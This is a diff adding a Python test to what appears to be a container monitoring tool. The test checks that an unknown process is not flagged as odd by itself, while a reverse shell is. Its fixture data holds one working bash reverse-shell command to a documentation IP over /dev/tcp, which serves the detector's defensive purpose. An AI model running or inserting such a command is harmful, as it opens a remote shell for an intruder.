@@ -129,3 +129,10 @@ async def test_a_job_of_the_containers_own_program_is_told_from_a_strangers() ->
         odd = found(findings, "odd_process", container=name)
         assert odd is not None
         assert (odd.extra["alike"], odd.extra["disguised"]) == (alike, disguised)
+
+
+async def test_what_hides_is_told_without_a_past_to_compare_with() -> None:
+    """No reading of the past and no peer: an unknown job is not odd by itself, a reverse shell is."""
+    later = {"web-a": ["python3 web.py", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"]}
+    findings = await asked(FakeContainers(lists={START: EVERYBODY}, tops={ONSET: later}))
+    assert [f.detail[:7] for f in findings if f.kind == "odd_process"] == ["bash -i"]
